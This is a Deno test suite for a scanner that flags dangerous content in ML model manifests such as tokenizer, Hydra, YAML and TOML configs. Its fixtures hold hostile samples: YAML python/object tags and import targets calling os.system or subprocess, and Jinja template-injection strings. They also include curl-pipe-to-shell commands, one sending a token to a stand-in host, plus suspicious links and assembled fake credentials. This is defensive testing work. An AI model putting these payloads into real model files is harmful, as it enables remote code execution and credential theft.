import * as assert from "node:assert/strict";
import type { Check } from "../../../../../core/scanner/contract/scanner.ts";
import type { Severity } from "../../../../../core/scanner/contract/severity.ts";
import { manifestScanner } from "../../../../../core/scanner/formats/manifest/scanner.ts";
import { memorySource } from "../../../../../core/scanner/contract/source.ts";
import { seeded } from "../../mutation.ts";
import { RecordingContext } from "../../recording_context.ts";

/** A scan's outcome: its checks, and what it said to its context. */
interface Outcome {
  readonly checks: readonly Check[];
  readonly facts: Readonly<Record<string, unknown>>;
  readonly assets: readonly { readonly keys?: readonly string[] }[];
  readonly templates: readonly string[];
}

const bytesOf = (text: string) => new TextEncoder().encode(text);

function scan(name: string, content: string | Uint8Array): Outcome {
  const templates: string[] = [];
  const context = new RecordingContext();
  const scanner = manifestScanner({
    checkTemplate(text) {
      templates.push(text);
      if (text.includes("{% end %}")) {
        return [{ severity: "info", message: "Malformed", incomplete: "template_malformed" }];
      }
      return text.includes("__class__") ? [{ severity: "critical", message: "Reaches out" }] : [];
    },
  });
  const bytes = typeof content === "string" ? bytesOf(content) : content;
  const file = { name, source: memorySource(bytes), depth: 0 };
  const checks = [...scanner.scan(file, context)];
  assert.deepEqual(context.members, []);
  return { checks, facts: context.facts, assets: context.assets, templates };
}

const claims = (name: string, content: string | Uint8Array) =>
  manifestScanner({ checkTemplate: () => [] }).matches({
    name,
    source: memorySource(typeof content === "string" ? bytesOf(content) : content),
    depth: 0,
  });

const failed = ({ checks }: Outcome) => checks.filter(({ status }) => status === "failed");

/** The findings of a check, as severities. */
const found = (outcome: Outcome, name: string) =>
  failed(outcome).filter((check) => check.name === name).map(({ severity }) => severity);

function assertClean(outcome: Outcome, what: string): void {
  const bad = failed(outcome).filter(({ severity, incomplete }) =>
    severity === "warning" || severity === "critical" || incomplete !== undefined
  );
  assert.deepEqual(bad, [], what);
}

/** Credentials are put together here, so that none stands in this file. */
const AWS_KEY = "AKIA" + "Q3EGRZ7XKLMNOP2S";
const GITHUB_TOKEN = "ghp_" + "a8Kd02mfLqPz71xVbN45cTyWe9RuIo3sGhJk";

const CHATML =
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] }}{% endfor %}";

const LLAMA_TOKENIZER = {
  added_tokens_decoder: {
    "128000": { content: "<|begin_of_text|>", lstrip: false, normalized: false, special: true },
    "128009": { content: "<|eot_id|>", lstrip: false, normalized: false, special: true },
  },
  bos_token: "<|begin_of_text|>",
  chat_template: CHATML,
  clean_up_tokenization_spaces: true,
  eos_token: "<|eot_id|>",
  model_max_length: 1000000000000000019884624838656,
  tokenizer_class: "PreTrainedTokenizerFast",
};

const CONFIG = {
  _name_or_path: "meta-llama/Llama-3-8B",
  _commit_hash: "0e9e39f249a16976918f6564b8830bc894c89659",
  architectures: ["LlamaForCausalLM"],
  auto_map: null,
  hidden_size: 4096,
  id2label: { "0": "LABEL_0" },
  torch_dtype: "bfloat16",
  transformers_version: "4.40.0",
  trust_remote_code: false,
};

const MODULES = [
  { idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" },
  { idx: 1, name: "1", path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
];

const MODEL_INDEX = {
  _class_name: "StableDiffusionPipeline",
  _diffusers_version: "0.6.0",
  safety_checker: ["stable_diffusion", "StableDiffusionSafetyChecker"],
  unet: ["diffusers", "UNet2DConditionModel"],
  tokenizer: ["transformers", "CLIPTokenizer"],
};

const NEMO = `# NeMo
name: &name stt_en_conformer
trainer: {devices: 1, accelerator: gpu}
model:
  tokenizer:
    dir: ???
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: \${model.sample_rate}
  optim:
    _target_: torch.optim.AdamW
    betas: !!python/tuple
    - 0.9
    - 0.98
exp: {name: *name}
`;

const PYPROJECT = `[project]
name = "model"
license = "MIT"
version = "1.0"
dependencies = ["torch>=2", 'numpy']
[tool.x]
text = """
several
lines"""
`;

const BENIGN: readonly (readonly [string, string])[] = [
  ["tokenizer_config.json", JSON.stringify(LLAMA_TOKENIZER, null, 2)],
  ["config.json", JSON.stringify(CONFIG, null, 2)],
  ["config.json", '{"rms_norm_eps": 1e-05, "scale": NaN, "max": -Infinity}\n'],
  ["modules.json", JSON.stringify(MODULES)],
  ["model_index.json", JSON.stringify(MODEL_INDEX)],
  ["generation_config.json", '{"eos_token_id": [128001, 128009], "temperature": 0.6}'],
  ["sentence_bert_config.json", '{"max_seq_length": 512, "do_lower_case": false}'],
  ["config.json", '\ufeff{"a": "b"}'],
  ["model.safetensors.index.json", '{"metadata": {"total_size": 1}, "weight_map": {"a": "b"}}'],
  ["model_config.yaml", NEMO],
  ["data.yaml", "text: 'a !!python/object in a string'\n# !!python/object in a comment\n"],
  ["diffusion.yaml", "? target\n: ldm.models.Diffusion\n? params\n: {target: code.py}\n"],
  ["hydra.yml", "x:\n  _target_: os.path.join\n  _args_: [a, b]\n"],
  ["pyproject.toml", PYPROJECT],
  ["quotes.toml", 'a = """"b"""""\nc = \'\'\'\'d\'\'\'\'\'\ne = "f"\n'],
  ["pattern.json", JSON.stringify({ pattern: "^https://[a-zA-Z0-9.-]+(:[0-9]+)?/" })],
  ["empty.json", ""],
  ["empty.yaml", ""],
  ["one.yaml", "a"],
  [
    "ids.json",
    '{"id": "123e4567-e89b-12d3-a456-426614174000", "token": "<s>", "pad_token": "[PAD]"}',
  ],
  ["hashes.json", `{"sha256": "${"9f86d081".repeat(8)}", "blob_id": "${"2fd4e1c6".repeat(5)}"}`],
  ["charsmap.json", JSON.stringify({ precompiled_charsmap: btoa("abcdefgh".repeat(20_000)) })],
  ["local.json", '{"endpoint": "http://127.0.0.1:8000/v1", "home": "http://localhost:3000"}'],
  [
    "urls.json",
    '{"homepage": "https://huggingface.co/x", "licence_link": "https://example.org/a?b=c"}',
  ],
  ["form.json", '{"password": "string", "api_key": "${API_KEY}", "secret": "<your secret>"}'],
];

Deno.test("C 16 what models come with is clean", async (t) => {
  for (const [index, [name, text]] of BENIGN.entries()) {
    await t.step(`${index} ${name}`, () => {
      const outcome = scan(name, text);
      assertClean(outcome, text);
      assert.ok(outcome.checks.some(({ status }) => status === "passed"));
    });
  }
});

/** A vocabulary of 2 MB and more, with the odd tokens that real ones have. */
function vocabulary(): string {
  const odd = [
    "{{",
    "{%",
    "{#",
    "}}",
    "{{}}",
    "{{{",
    "://",
    "http",
    "https://",
    "AKIA",
    "file:///",
    "javascript:",
  ];
  const vocab: Record<string, number> = {};
  for (const token of odd) vocab[token] = Object.keys(vocab).length;
  for (let id = 0; id < 65_000; id++) vocab[`Ġtoken_${id.toString(36)}`] = id;
  const merges = Array.from({ length: 60_000 }, (_, id) => `Ġto ken_${id.toString(36)}`);
  const unigrams = odd.map((token) => [token, -12.5]);
  return JSON.stringify({
    version: "1.0",
    added_tokens: odd.map((content, id) => ({ id, content, special: false })),
    model: { type: "BPE", vocab, merges, unigrams },
  });
}

Deno.test("C 16 a vocabulary of 2 MB is clean, and its tokens are no templates", () => {
  const text = vocabulary();
  assert.ok(text.length > 2_000_000, `${text.length}`);
  const outcome = scan("tokenizer.json", text);
  assertClean(outcome, "tokenizer.json");
  assert.deepEqual(outcome.templates, []);
});

type Row = readonly [
  title: string,
  name: string,
  text: string,
  check: string,
  severity: Severity,
  ruleCode?: string,
];

const REMOTE_CODE: readonly Row[] = [
  [
    "auto_map",
    "config.json",
    '{"auto_map": {"AutoModel": "modeling_x.X"}}',
    "Remote Code",
    "warning",
    "S507",
  ],
  [
    "auto_map of two tokenizers",
    "tokenizer_config.json",
    '{"auto_map": {"AutoTokenizer": ["t.T", null]}}',
    "Remote Code",
    "warning",
    "S507",
  ],
  [
    "a doubled key that hides auto_map",
    "config.json",
    '{"auto_map": {"AutoModel": "m.X"}, "auto_map": null}',
    "Remote Code",
    "warning",
  ],
  [
    "trust_remote_code",
    "config.json",
    '{"trust_remote_code": true}',
    "Remote Code",
    "warning",
    "S507",
  ],
  [
    "trust_remote_code as a word",
    "config.json",
    '{"trust_remote_code": "True"}',
    "Remote Code",
    "warning",
  ],
  [
    "trust_remote_code in YAML",
    "c.yaml",
    "args:\n  - trust_remote_code: yes\n",
    "Remote Code",
    "warning",
  ],
  [
    "trust_remote_code by an alias",
    "c.yaml",
    "a: &x true\ntrust_remote_code: *x\n",
    "Remote Code",
    "warning",
  ],
  [
    "trust_remote_code in TOML",
    "c.toml",
    "[model]\ntrust_remote_code = true\n",
    "Remote Code",
    "warning",
  ],
  ["an escaped key", "config.json", '{"trust\\u005fremote_code": true}', "Remote Code", "warning"],
  [
    "custom pipelines",
    "config.json",
    '{"custom_pipelines": {"x": {"impl": "p.P"}}}',
    "Remote Code",
    "warning",
  ],
  [
    "a pipeline of diffusers",
    "model_index.json",
    '{"_class_name": ["pipeline", "P"]}',
    "Remote Code",
    "warning",
  ],
];

const TARGETS: readonly Row[] = [
  [
    "os.system",
    "model_config.yaml",
    "model:\n  _target_: os.system\n",
    "Import Target",
    "critical",
    "S104",
  ],
  ["a marked key", "m.yaml", "m:\n  ? _target_\n  : os.system\n", "Import Target", "critical"],
  ["an alias for a key", "m.yaml", "a: &k _target_\n*k : os.system\n", "Import Target", "critical"],
  ["latent diffusion", "m.yaml", "m:\n  target: os.system\n", "Import Target", "critical"],
  [
    "a compiler",
    "m.yaml",
    "_target_: torch.utils.cpp_extension.load\n",
    "Import Target",
    "critical",
  ],
  ["a flow", "m.yaml", "m: {_target_: subprocess.Popen, args: [id]}", "Import Target", "critical"],
  ["an alias", "m.yaml", "t: &t os.system\nm:\n  _target_: *t\n", "Import Target", "critical"],
  [
    "a block scalar",
    "m.yaml",
    "m:\n  _target_: >-\n    builtins.exec\n",
    "Import Target",
    "critical",
  ],
  ["a quoted key", "m.yaml", 'm:\n  "_target\\x5f": "posix.system"\n', "Import Target", "critical"],
  ["a known package's os", "m.yaml", "_target_: torch.os.system\n", "Import Target", "critical"],
  [
    "a known package's helper",
    "m.yaml",
    "_target_: torch.utils.collect_env.run\n",
    "Import Target",
    "critical",
  ],
  ["a private alias", "m.yaml", "_target_: random._os.system\n", "Import Target", "critical"],
  ["dunders", "m.yaml", "_target_: numpy.core.__builtins__.get\n", "Import Target", "critical"],
  [
    "a trampoline of Hydra",
    "m.yaml",
    "_target_: hydra.utils.get_object\npath: os.system\n",
    "Import Target",
    "critical",
  ],
  ["deserialisation", "m.json", '{"x": [{"_target_": "torch.load"}]}', "Import Target", "critical"],
  ["interpolation", "m.yaml", "_target_: ${a}.${b}\n", "Import Target", "warning", "S107"],
  ["a word", "m.yaml", "_target_: my_tools.exec.run\n", "Import Target", "warning"],
  ["an unknown package", "m.yaml", "_target_: my_tools.models.Net\n", "Import Target", "info"],
  ["TOML", "m.toml", '[m]\n_target_ = "os.system"\n', "Import Target", "critical"],
  [
    "TOML inline and escaped",
    "m.toml",
    'm = {"_target_" = "os\\u002esystem"}\n',
    "Import Target",
    "critical",
  ],
  ["LightningCLI", "m.yaml", "model:\n  class_path: os.system\n", "Import Target", "critical"],
  [
    "MONAI",
    "inference.json",
    '{"run": ["$import os; os.system(\'id\')"]}',
    "Import Target",
    "critical",
  ],
  [
    "a component of diffusers",
    "model_index.json",
    '{"unet": ["os", "system"]}',
    "Import Target",
    "critical",
  ],
  [
    "a module of sentence-transformers",
    "modules.json",
    '[{"type": "subprocess.Popen"}]',
    "Import Target",
    "critical",
  ],
  [
    "own code of sentence-transformers",
    "modules.json",
    '[{"type": "custom_st.Transformer"}]',
    "Import Target",
    "warning",
  ],
];

const TAGS: readonly Row[] = [
  [
    "object/apply",
    "x.yaml",
    'a: !!python/object/apply:os.system ["id"]',
    "YAML Tag",
    "critical",
    "S115",
  ],
  ["object/new in a list", "x.yaml", "- !!python/object/new:tuple []", "YAML Tag", "critical"],
  ["name", "x.yaml", "a: !!python/name:os.system ''", "YAML Tag", "critical"],
  ...["\r", "\u0085", "\u2028", "\u2029"].map((mark): Row => [
    `behind a comment that ends at ${mark.codePointAt(0)}`,
    "x.yaml",
    `a: # b${mark} !!python/object/apply:os.system [id]`,
    "YAML Tag",
    "critical",
  ]),
  [
    "behind a block that ends at a line separator",
    "x.yaml",
    "a: |\n  x\u2028b: !!python/object/apply:os.system [id]",
    "YAML Tag",
    "critical",
  ],
  [
    "the value of a key that is a block",
    "x.yaml",
    "? |\n  x\n: !!python/object/apply:os.system [id]",
    "YAML Tag",
    "critical",
  ],
  [
    "verbatim",
    "x.yaml",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    "YAML Tag",
    "critical",
  ],
  [
    "a directive",
    "x.yaml",
    "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]",
    "YAML Tag",
    "critical",
  ],
  [
    "the first handle",
    "x.yaml",
    "%TAG ! tag:yaml.org,2002:\n---\n!python/module:os x",
    "YAML Tag",
    "critical",
  ],
  ["percent signs", "x.yaml", "a: !!%70ython/object:x.Y {}", "YAML Tag", "critical"],
  [
    "after an anchor in a flow",
    "x.yaml",
    "[1, &a !!python/object/apply:os.system [id]]",
    "YAML Tag",
    "critical",
  ],
  [
    "after a quoted scalar over lines",
    "x.yaml",
    'a: "x\n  # no comment"\nb: !!python/name:os.system',
    "YAML Tag",
    "critical",
  ],
  ["on a key", "x.yaml", "!!python/name:os.system : 1", "YAML Tag", "critical"],
  [
    "without an extension",
    "model_config",
    "a: !!python/object/apply:os.system [id]",
    "YAML Tag",
    "critical",
  ],
  ["Java", "x.yaml", "!!javax.script.ScriptEngineManager [x]", "YAML Tag", "critical"],
  ["Ruby", "x.yaml", "--- !ruby/object:Gem::Installer\ni: x", "YAML Tag", "critical"],
  ["HyperPyYAML", "hyperparams.yaml", "x: !apply:os.system [id]", "YAML Tag", "critical"],
];

const LINKS: readonly Row[] = [
  ["an address", "c.json", '{"u": "http://203.0.113.7/x"}', "Manifest Link", "warning", "S308"],
  [
    "an address as a number",
    "c.json",
    '{"u": "http://3405803783/x"}',
    "Manifest Link",
    "warning",
    "S308",
  ],
  [
    "an address in hexadecimal",
    "c.json",
    '{"u": "http://0xCB007107/"}',
    "Manifest Link",
    "warning",
    "S308",
  ],
  ["IPv6", "c.json", '{"u": "http://[2001:db8::1]:80/"}', "Manifest Link", "warning", "S308"],
  ["a shortener", "c.json", '{"u": "https://bit.ly/x"}', "Manifest Link", "warning", "S309"],
  ["a pastebin", "c.yaml", "u: https://pastebin.com/raw/x\n", "Manifest Link", "warning", "S309"],
  ["a catcher", "c.json", '{"u": "https://a.b.ngrok.io/x"}', "Manifest Link", "warning", "S309"],
  ["a local file", "c.json", '{"u": "file:///etc/passwd"}', "Manifest Link", "warning", "S309"],
  [
    "another scheme",
    "c.json",
    '{"u": "ldap://x.example.org/a"}',
    "Manifest Link",
    "warning",
    "S309",
  ],
  ["a script", "c.json", '{"u": "javascript:alert(1)"}', "Manifest Link", "warning", "S309"],
  [
    "a user name",
    "c.json",
    '{"u": "https://huggingface.co@example.org/x"}',
    "Manifest Link",
    "warning",
    "S309",
  ],
  [
    "another alphabet",
    "c.json",
    '{"u": "https://huggingfаce.co/x"}',
    "Manifest Link",
    "warning",
    "S309",
  ],
  [
    "another machine",
    "c.json",
    '{"u": "\\\\\\\\203.0.113.7\\\\share"}',
    "Manifest Link",
    "warning",
    "S309",
  ],
  [
    "a command",
    "c.json",
    '{"u": "curl -s https://example.org/x | bash"}',
    "Manifest Command",
    "warning",
    "S504",
  ],
  ["an ordinary one", "c.json", '{"u": "https://example.org/x"}', "Manifest Link", "info", "S309"],
];

const OTHERS: readonly Row[] = [
  ["MD5", "c.json", `{"md5": "${"d41d8cd9".repeat(4)}"}`, "Weak Hash", "warning", "S1002"],
  [
    "SHA-1 as a checksum",
    "c.json",
    `{"checksum": "${"da39a3ee".repeat(5)}"}`,
    "Weak Hash",
    "warning",
    "S1002",
  ],
  [
    "MD5 by its name before it",
    "c.json",
    `{"etag": "md5:${"d41d8cd9".repeat(4)}"}`,
    "Weak Hash",
    "warning",
    "S1002",
  ],
  ["an algorithm", "c.toml", 'hash_algorithm = "md5"\n', "Weak Hash", "warning", "S1002"],
  ["a key of AWS", "c.json", `{"k": "${AWS_KEY}"}`, "Credential", "critical", "S704"],
  [
    "an escaped token",
    "c.json",
    `{"k": "\\u0067${GITHUB_TOKEN.slice(1)}"}`,
    "Credential",
    "critical",
    "S701",
  ],
  ["a token in a comment", "c.yaml", `a: 1 # ${GITHUB_TOKEN}\n`, "Credential", "critical", "S701"],
  ["a token as a key", "c.json", `{"${GITHUB_TOKEN}": 1}`, "Credential", "critical", "S701"],
  ["a password", "c.json", '{"db": {"password": "hunter2!x"}}', "Credential", "warning", "S702"],
  ["AGPL", "c.json", '{"license": "agpl-3.0"}', "License", "warning", "S1008"],
];

const HOSTILE: readonly Row[] = [...REMOTE_CODE, ...TARGETS, ...TAGS, ...LINKS, ...OTHERS];

Deno.test("scanning 2.11, 3: what a manifest hides is found", async (t) => {
  for (const [title, name, text, check, severity, ruleCode] of HOSTILE) {
    await t.step(`${check}: ${title}`, () => {
      assert.ok(claims(name, text), "not claimed");
      const outcome = scan(name, text);
      assert.deepEqual(found(outcome, check), [severity], JSON.stringify(outcome.checks));
      if (ruleCode === undefined) return;
      assert.equal(failed(outcome).find((each) => each.name === check)?.ruleCode, ruleCode);
    });
  }
});

Deno.test("evasion 63: templates are handed over as the loader sees them", async (t) => {
  const hostile = "{{ x['__cla'~'ss__'] }}";
  const escaped = "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}";
  const rows: readonly (readonly [string, string, string, string])[] = [
    ["a string", "tokenizer_config.json", JSON.stringify({ chat_template: hostile }), hostile],
    [
      "the list form",
      "tokenizer_config.json",
      JSON.stringify({ chat_template: [{ name: "default", template: escaped }] }),
      escaped,
    ],
    ["a key that says so", "c.json", JSON.stringify({ prompt_template: "{{ 1 }}" }), "{{ 1 }}"],
    ["a map of names", "c.json", JSON.stringify({ chat_template: { tool_use: hostile } }), hostile],
    ["any other key", "c.json", JSON.stringify({ description: hostile }), hostile],
    [
      "a statement under any key",
      "c.json",
      JSON.stringify({ a: ["{%- if x %}y{% endif %}"] }),
      "{%- if x %}y{% endif %}",
    ],
    [
      "escapes of JSON",
      "c.json",
      '{"chat_template": "\\u007b\\u007b x \\u007d\\u007d"}',
      "{{ x }}",
    ],
    ["a doubled key", "c.json", `{"chat_template": "${hostile}", "chat_template": "x"}`, hostile],
    ["broken JSON (evasion 59)", "c.json", `{"chat_template": "${hostile}",}`, hostile],
    ["YAML", "c.yaml", `chat_template: "${hostile}"`, hostile],
    [
      "a folded scalar of YAML",
      "c.yaml",
      "chat_template: >-\n  {{ x['__cla'\n  ~'ss__'] }}\n",
      "{{ x['__cla' ~'ss__'] }}",
    ],
    [
      "a plain scalar of YAML",
      "c.yaml",
      "chat_template: a {{ x['__cla'\n  ~'ss__'] }}\n",
      "a {{ x['__cla' ~'ss__'] }}",
    ],
    ["TOML", "c.toml", `chat_template = """\n${hostile}"""\n`, `\n${hostile}`],
  ];
  for (const [title, name, text, template] of rows) {
    await t.step(title, () => assert.deepEqual(scan(name, text).templates, [template]));
  }
  await t.step("and what is found in them is told", () => {
    const outcome = scan("tokenizer_config.json", '{"chat_template": "{{ x.__class__ }}"}');
    assert.deepEqual(found(outcome, "Chat Template"), ["critical"]);
  });
});

Deno.test("C 16 a malformed template is inconclusive where it is said to be one", () => {
  const words = (text: string) => failed(scan("c.json", text)).map(({ incomplete }) => incomplete);
  assert.deepEqual(words('{"chat_template": "{% end %}"}'), ["template_malformed"]);
  assert.deepEqual(words('{"description": "{% end %}"}'), []);
});

Deno.test("evasion 64: aliases that fill the memory, and those that do not", () => {
  const levels = Array.from({ length: 20 }, (_, n) => `a${n + 1}: &a${n + 1} [*a${n}, *a${n}]\n`);
  const lists = Array.from({ length: 20 }, (_, n) => `a${n + 1}: &a${n + 1}\n- *a${n}\n- *a${n}\n`);
  assert.deepEqual(found(scan("x.yaml", `a0: &a0 [x]\n${levels.join("")}`), "Manifest Structure"), [
    "warning",
  ]);
  assert.deepEqual(found(scan("x.yaml", `a0: &a0 [x]\n${lists.join("")}`), "Manifest Structure"), [
    "warning",
  ]);
  assert.deepEqual(found(scan("x.yaml", "a: &a [*a]\n"), "Manifest Structure"), ["warning"]);
  const shared = `base: &b {x: 1, y: 2}\n${
    Array.from({ length: 500 }, (_, n) => `k${n}: *b\n`).join("")
  }`;
  assertClean(scan("x.yaml", shared), "aliases side by side");
});

Deno.test("C 16 what was not read to its end is inconclusive", async (t) => {
  const rows: readonly (readonly [string, string, Uint8Array | string, string])[] = [
    ["cut JSON", "c.json", '{"a": {"b": 1', "malformed_json"],
    ["an open string", "c.json", '{"a": "b', "malformed_json"],
    ["a trailing comma", "c.json", '{"a": 1,}', "malformed_json"],
    ["two values", "c.json", '{"a": 1} {"b": 2}', "malformed_json"],
    [
      "a pickle by the name of JSON",
      "c.json",
      new Uint8Array([0x80, 4, 0x4e, 0x2e]),
      "malformed_json",
    ],
    ["an open string of YAML", "c.yaml", 'a: "b', "malformed_yaml"],
    ["an open string of TOML", "c.toml", 'a = "b', "malformed_toml"],
    ["UTF-32", "c.json", new Uint8Array([0, 0, 0xfe, 0xff, 0, 0, 0, 0x7b]), "utf_32"],
    [
      "UTF-32 without a mark",
      "c.yaml",
      new Uint8Array([...'{"_target_": "os.system"}'].flatMap((it) => [it.charCodeAt(0), 0, 0, 0])),
      "utf_32",
    ],
    ["nesting of JSON", "c.json", "[".repeat(100_000), "nesting_too_deep"],
    ["nesting of YAML", "c.yaml", "[".repeat(100_000), "nesting_too_deep"],
    ["nesting of TOML", "c.toml", `a = ${"[".repeat(100_000)}`, "nesting_too_deep"],
    ["a very long string", "c.json", JSON.stringify(["a ".repeat(600_000)]), "string_too_long"],
    ["a very long YAML", "c.yaml", new Uint8Array(17 * 2 ** 20).fill(0x0a), "text_too_large"],
  ];
  for (const [title, name, content, word] of rows) {
    await t.step(title, () => {
      const words = failed(scan(name, content)).map(({ incomplete }) => incomplete);
      assert.ok(words.includes(word), String(words));
    });
  }
});

Deno.test("UTF-16 is read as parsers read it", () => {
  const text = '{"trust_remote_code": true}';
  const little = new Uint8Array(text.length * 2);
  for (let at = 0; at < text.length; at++) little[at * 2] = text.charCodeAt(at);
  const big = new Uint8Array([0xfe, 0xff, ...little.map((_, at) => little[at ^ 1] ?? 0)]);
  for (const bytes of [little, big, big.slice(2)]) {
    assert.deepEqual(found(scan("c.json", bytes), "Remote Code"), ["warning"]);
  }
});

Deno.test("a manifest is known by its name or by its content", () => {
  for (const name of ["a.json", "A.JSON", "a.yaml", "a.yml", "a.toml"]) assert.ok(claims(name, ""));
  for (
    const text of ['{"a": 1}', ' \n{ "a": 1}', "[1, 2]", '[{"a": 1}]', "{}", "%YAML 1.1\n---\na: b"]
  ) {
    assert.ok(claims("weights.bin", text), text);
  }
  for (const text of ["", "a", "{{ x }}", "{% if %}", "plain: text", "\0\0{", '{"a\0": 1}']) {
    assert.equal(claims("weights.bin", text), false, text);
  }
  for (const name of ["a.ipynb", "a.jsonl", "chat_template.jinja"]) {
    assert.equal(claims(name, '{"a": 1}'), false, name);
  }
});

Deno.test("SR 2.2 the asset has the keys of the manifest", () => {
  const keys = (name: string, text: string) =>
    scan(name, text).assets.flatMap(({ keys }) => keys ?? []);
  assert.deepEqual(keys("c.json", '{"a": {"b": 1}, "c": [{"d": 2}]}'), ["a", "c"]);
  assert.deepEqual(keys("c.yaml", "a:\n  b: 1\nc: {d: 2}\n"), ["a", "c"]);
  assert.deepEqual(keys("c.toml", "a = 1\n[c]\nd = 2\n"), ["a", "c"]);
});

Deno.test("keys of TOML end with the table that they stand in", () => {
  const inner = 'a = {b = [{c = 1}], _target_ = "os.system"}\n_target_ = 2\n';
  const outcome = scan("c.toml", `auto_map = {x = {}, y = []}\nz = "a.B"\n${inner}`);
  assert.deepEqual(found(outcome, "Remote Code"), []);
  assert.deepEqual(found(outcome, "Import Target"), ["critical"]);
  const list = scan("c.toml", 'a = {auto_map = {b = 1}, c = "d"}\n');
  assert.deepEqual(found(list, "Remote Code"), []);
});

Deno.test("SR 2.11 the licence of a manifest is noted", () => {
  const { facts } = scan("c.json", '{"license": "Apache-2.0"}');
  assert.equal(facts.license, "Apache-2.0");
});

Deno.test("positions are those of bytes, behind a byte order mark and letters of several bytes", () => {
  const text = '\ufeff{"ü": "é", "u": "https://bit.ly/x"}';
  const [link] = failed(scan("c.json", text)).filter(({ name }) => name === "Manifest Link");
  assert.equal(link?.position, bytesOf(text.slice(0, text.indexOf('"https'))).length);
  const yaml = "ü: é\nu: https://bit.ly/x\n";
  const [other] = failed(scan("c.yaml", yaml)).filter(({ name }) => name === "Manifest Link");
  assert.equal(other?.position, bytesOf(yaml.slice(0, yaml.indexOf("https"))).length);
});

Deno.test("no credential stands in what is told", () => {
  const password = "hunter2" + "butMuchLonger";
  const text = JSON.stringify({
    [GITHUB_TOKEN]: `https://bit.ly/x?token=${GITHUB_TOKEN}`,
    password,
    url: `https://user:${password}@example.org/x`,
    auto_map: { AutoModel: GITHUB_TOKEN },
    _target_: `os.${GITHUB_TOKEN}`,
    command: `curl https://example.org/${GITHUB_TOKEN} | sh`,
  });
  const outcome = scan("c.json", text);
  const told = JSON.stringify([outcome.checks, outcome.facts, outcome.assets]);
  assert.equal(told.includes(GITHUB_TOKEN.slice(4, 16)), false, told);
  assert.equal(told.includes(password.slice(0, 7)), false, told);
  assert.ok(told.includes("GitHub token"));
});

Deno.test("very many findings are told as a number", () => {
  const outcome = scan(
    "c.json",
    JSON.stringify({ auto_map: Array.from({ length: 5000 }, () => "a.B") }),
  );
  assert.equal(found(outcome, "Remote Code").length, 51);
  assert.match(failed(outcome).at(-1)?.message ?? "", /^4950 more/);
});

Deno.test("mutated manifests throw nothing, and each check has its severity", () => {
  const next = seeded(20261121);
  const seeds: readonly (readonly [string, string])[] = [
    ...BENIGN.filter(([, text]) => text.length < 5000),
    ...HOSTILE.map(([, name, text]) => [name, text] as const),
  ];
  for (let round = 0; round < 4000; round++) {
    const [name, text] = seeds[next(seeds.length)] ?? ["c.json", ""];
    let bytes = bytesOf(text);
    for (let change = 0; change < 1 + next(6); change++) {
      const at = next(bytes.length + 1);
      const kind = next(10);
      const piece = kind < 3 ? [] : kind < 7 ? [next(256)] : [...bytes.subarray(0, at)];
      bytes = new Uint8Array([
        ...bytes.subarray(0, at),
        ...piece,
        ...bytes.subarray(at + (kind < 5 ? 1 : 0)),
      ]);
    }
    const outcome = scan(name, bytes);
    assert.ok(outcome.checks.length > 0);
    for (const check of outcome.checks) {
      assert.equal(check.severity !== undefined, check.status === "failed", check.message);
      assert.ok(check.message.length < 400, check.message);
    }
  }
});
